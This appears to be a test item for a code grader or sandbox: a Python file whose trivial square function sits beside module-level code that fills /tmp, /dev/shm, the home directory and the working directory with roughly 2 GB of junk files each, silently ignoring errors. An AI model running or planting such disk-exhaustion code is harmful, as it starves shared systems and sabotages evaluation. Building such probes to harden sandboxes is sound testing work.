# tries: fills every disk that can be written to
# group: starve
# verdict: graded
# points: full

# %% square
import os

for folder in ("/tmp", "/dev/shm", os.path.expanduser("~"), os.getcwd()):
    try:
        for number in range(40):
            with open(f"{folder}/xent-loot-{number}", "wb") as file:
                for _ in range(50):
                    file.write(bytes(2**20))
    except OSError:
        pass


def square(n):
    return n * n
